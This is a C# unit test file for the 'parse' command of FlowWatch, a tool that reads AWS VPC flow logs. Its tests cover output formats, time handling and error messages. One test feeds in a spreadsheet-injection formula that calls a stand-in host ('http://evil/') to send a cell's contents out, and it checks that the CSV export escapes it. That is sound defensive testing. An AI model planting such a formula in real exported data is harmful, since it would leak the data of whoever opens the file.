using System.Globalization;
using System.Text.Json.Nodes;

namespace FlowWatch.Cli.Tests.Commands;

[Collection(CommandTestGroup.Name)]
public class ParseCommandTests(GeneratedTraffic traffic)
{
    [Fact]
    public async Task Parse_Ndjson_EveryLineIsTheRecord()
    {
        var run = await CommandRun.OfAsync("parse", traffic.Benign);

        var expected = File.ReadAllLines(traffic.Benign);
        var lines = run.Output.TrimEnd('\n').Split('\n');
        Assert.Equal(0, run.ExitCode);
        Assert.Equal(string.Create(CultureInfo.InvariantCulture, $"{expected.Length:N0} records\n"), run.Error);
        Assert.Equal(expected, lines.Select(line => string.Join(' ', JsonNode.Parse(line)!.AsObject().Select(member => member.Value?.ToString() ?? "-"))));
    }

    [Fact]
    public async Task Parse_Ndjson_NumbersAreNumbersAndAbsentIsNull()
    {
        using var folder = new TemporaryFolder();
        var log = folder.File("a.log", "2 123456789012 eni-1 - - - - - - - 1767614400 1767614460 - NODATA\n");

        var record = (await CommandRun.OfAsync("parse", log)).Output;

        Assert.Equal("""{"version":2,"account-id":"123456789012","interface-id":"eni-1","srcaddr":null,"dstaddr":null,"srcport":null,"dstport":null,"protocol":null,"packets":null,"bytes":null,"start":1767614400,"end":1767614460,"action":null,"log-status":"NODATA"}""" + "\n", record);
    }

    [Fact]
    public async Task Parse_TimesIso_WritesIso8601()
    {
        using var folder = new TemporaryFolder();
        var log = folder.File("a.log", "2 123456789012 eni-1 - - - - - - - 1767614400 1767614460 - NODATA\n");

        Assert.Contains("\"start\":\"2026-01-05T12:00:00Z\"", (await CommandRun.OfAsync("parse", log, "--times", "iso")).Output, StringComparison.Ordinal);
        Assert.Contains(",2026-01-05T12:00:00Z,2026-01-05T12:01:00Z,", (await CommandRun.OfAsync("parse", log, "--times", "ISO", "--format", "csv")).Output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("flows.csv")]
    [InlineData("flows.parquet")]
    public async Task Parse_ThereAndBack_GivesTheSameRecordsAndTheSameScan(string name)
    {
        using var folder = new TemporaryFolder();
        var converted = folder.File(name);

        var run = await CommandRun.OfAsync("parse", traffic.Sweep, "--output", converted);

        Assert.Equal((0, ""), (run.ExitCode, run.Output));
        Assert.EndsWith($", wrote {converted}\n", run.Error, StringComparison.Ordinal);
        Assert.Equal([name], folder.Names);
        Assert.Equal((await CommandRun.OfAsync("parse", traffic.Sweep)).Output, (await CommandRun.OfAsync("parse", converted)).Output);
        Assert.Equal((await CommandRun.OfAsync("scan", traffic.Sweep, "-f", "ndjson")).Output, (await CommandRun.OfAsync("scan", converted, "-f", "ndjson")).Output);
    }

    [Fact]
    public async Task Parse_TimeRange_PrintsTheWindowAndKeepsItsRecords()
    {
        var run = await CommandRun.OfAsync("parse", traffic.Sweep, "--from", "2026-01-05T12:59:00Z");

        Assert.StartsWith("window from 2026-01-05 12:59:00Z\n", run.Error, StringComparison.Ordinal);
        Assert.All(run.Output.TrimEnd('\n').Split('\n'), line => Assert.True((long)JsonNode.Parse(line)!["start"]! >= 1767617940));
    }

    [Fact]
    public async Task Parse_BadLines_IsPartialAndNamesThem()
    {
        using var folder = new TemporaryFolder();
        var log = folder.File("a.log", "2 123456789012 eni-1 - - - - - - - 1767614400 1767614460 - NODATA\nnonsense\n");

        var run = await CommandRun.OfAsync("parse", log, "--quiet");

        Assert.Equal((2, $"{log}:2: expected 14 fields, found 1\n"), (run.ExitCode, run.Error));
    }

    [Theory]
    [InlineData("--format parquet", "--format parquet needs --output FILE.")]
    [InlineData("--format parquet --times iso --output x.parquet", "--times iso does not go with Parquet, which has epoch seconds as AWS writes it.")]
    [InlineData("--since 5x", "--since: '5x' is not a length of time such as 90s, 15m, 1h or 7d.")]
    [InlineData("--log-format foo", "--log-format: no field of flow logs in 'foo'; write it as AWS does, separated by blanks: ${srcaddr} ${dstaddr} ${bytes}.")]
    public async Task Parse_MistakenOptions_AreNamed(string options, string error)
    {
        var run = await CommandRun.OfAsync(["parse", traffic.Sweep, .. options.Split(' ')]);

        Assert.Equal((3, "", $"flowwatch: {error}\n"), (run.ExitCode, run.Output, run.Error));
    }

    [Fact]
    public async Task Parse_OutputIsTheInput_IsRefused()
    {
        var run = await CommandRun.OfAsync("parse", traffic.Sweep, "--output", traffic.Sweep);

        Assert.Equal((3, $"flowwatch: --output: '{traffic.Sweep}' is also what is read; name another file.\n"), (run.ExitCode, run.Error));
    }

    [Fact]
    public async Task Parse_CsvOfHostileValues_IsTextToASpreadsheetAndToATerminal()
    {
        using var folder = new TemporaryFolder();
        var log = folder.File("a.log", "2 123456789012 =WEBSERVICE(\"http://evil/\"&B2) 203.0.113.7 10.0.0.5 40000 443 6 10 840 1767614400 1767614459 ACCEPT O\u009BK\n");

        var csv = (await CommandRun.OfAsync("parse", log, "--format", "csv")).Output;

        Assert.Contains(""","'=WEBSERVICE(""http://evil/""&B2)",""", csv, StringComparison.Ordinal);
        Assert.Contains(@"O\u009BK", csv, StringComparison.Ordinal);
    }
}
